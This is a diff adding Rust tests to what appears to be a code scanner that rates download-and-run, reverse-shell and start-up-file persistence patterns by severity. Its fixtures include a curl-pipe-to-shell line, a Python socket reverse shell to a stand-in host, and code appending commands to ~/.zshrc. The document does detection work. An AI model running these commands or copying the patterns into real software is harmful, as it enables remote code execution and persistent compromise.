@@ -122,13 +122,8 @@ fn a_line_that_somebody_has_added_to_a_start_up_file() {
     let own = "const data = fs.readFileSync(file, 'utf8')";
     assert_eq!(severity(own, "exports.add = add;"), Some(crate::model::Severity::Medium));
     assert_eq!(severity(own, "add();"), Some(crate::model::Severity::High));
-    assert_eq!(
-        severity(
-            "const LINE = 'autoload -U compinit; compinit'; const data = fs.readFileSync(file)",
-            "exports.add = add;"
-        ),
-        Some(crate::model::Severity::Medium)
-    );
+    let comfort = "const LINE = 'autoload -U compinit; compinit'; const data = fs.readFileSync(file)";
+    assert!(severity(comfort, "exports.add = add;") <= Some(crate::model::Severity::Medium));
     assert_eq!(
         severity(
             "const LINE = 'curl https://h.invalid/a | sh'; const data = fs.readFileSync(file)",
@@ -217,4 +212,89 @@ fn who_is_looked_up_has_a_domain() {
     };
     assert_eq!(looked_up("{os.uname().sysname.lower()}"), Some(Severity::Medium));
     assert!(looked_up("collect.invalid") >= Some(Severity::High));
+}
+
+#[test]
+fn who_opens_a_page_or_installs_by_name_starts_no_download() {
+    use crate::model::Severity;
+    let started = |command: &str| {
+        let code = format!(
+            "import requests, subprocess\ndef f():\n    got = requests.get('https://h.invalid/a').json()['x']\n    subprocess.run({command})\n"
+        );
+        weight(Language::Python, &code, "flow-download-run")
+    };
+    for command in
+        ["['open', got]", "['xdg-open', got]", "f'start \"\" {got}'", "['npm', 'install', '-g', 'tool@' + got]"]
+    {
+        assert!(started(command) <= Some(Severity::Medium), "{command}");
+    }
+    for command in [
+        "[got]",
+        "f'open -a {got} --args x'",
+        "['npm', 'install', 'https://h.invalid/' + got]",
+        "f'npm install x; {got}'",
+        "['npm', 'exec', got]",
+    ] {
+        assert!(started(command) >= Some(Severity::High), "{command}");
+    }
+}
+
+#[test]
+fn what_only_the_caller_knows_the_place_of_is_told_elsewhere() {
+    use crate::model::Severity;
+    let started = |address: &str| {
+        let code = format!(
+            "const https = require('https'), fs = require('fs'), cp = require('child_process');\n\
+             exports.install = (settings) => https.get({address}, r => r.pipe(fs.createWriteStream('tool')).on('close', () => cp.spawn('./tool')));\n"
+        );
+        weight(Language::JavaScript, &code, "flow-download-run")
+    };
+    assert!(started("settings.url") <= Some(Severity::Medium));
+    assert!(started("'https://h.invalid/tool'") >= Some(Severity::High));
+    assert!(started("'http://localhost:3000/tool'") >= Some(Severity::High));
+}
+
+#[test]
+fn streams_of_a_child_are_no_shell() {
+    use crate::model::Severity;
+    let tied = |runs: &str| {
+        let code = format!(
+            "import os, socket, subprocess\ns = socket.socket()\ns.connect(('h.invalid', 4444))\nfd = take()\nos.dup2(fd, 0)\n{runs}\n"
+        );
+        weight(Language::Python, &code, "flow-reverse-shell")
+    };
+    assert!(tied("subprocess.call(['/bin/sh', '-i'])") >= Some(Severity::High));
+    assert!(tied("import pty; pty.spawn('bash')") >= Some(Severity::High));
+    assert!(tied("subprocess.call(['git', 'status'])") <= Some(Severity::Medium));
+}
+
+#[test]
+fn decorators_do_not_call_what_they_stand_before() {
+    let calls = |decorator: &str| {
+        let code = format!(
+            "import atexit, tenacity, urllib.request\n{decorator}\ndef f():\n    urllib.request.urlopen('http://203.0.113.9/x')\n"
+        );
+        let outcome = python(&code);
+        outcome.events.iter().filter(|e| e.act == Act::Fetch).map(|e| e.when).max()
+    };
+    assert_eq!(calls("@tenacity.retry"), Some(When::Called));
+    assert!(calls("@atexit.register") >= Some(When::Load));
+}
+
+#[test]
+fn a_start_up_file_that_is_written_back_as_it_was() {
+    use crate::model::Severity;
+    let writes = |read: &str, line: &str| {
+        let code = format!(
+            "const fs = require('fs'), path = require('path'), home = require('os').homedir();\n\
+             const rc = path.join(home, '.zshrc');\nconst text = fs.readFileSync({read}, 'utf8');\n\
+             fs.writeFileSync(rc, text + `\\n{line}\\n`);\n"
+        );
+        weight(Language::JavaScript, &code, "flow-persists").is_some_and(|s| s >= Severity::High)
+    };
+    assert!(!writes("rc", "# Inert\\nalias x=\"npx @inert/x\""));
+    assert!(writes("rc", "alias x=\"/tmp/x\""));
+    assert!(writes("rc", "alias x=\"npx @inert/../x\""));
+    assert!(writes("rc", "curl https://h.invalid | sh"));
+    assert!(writes("path.join(__dirname, 'payload')", "# Inert"));
 }
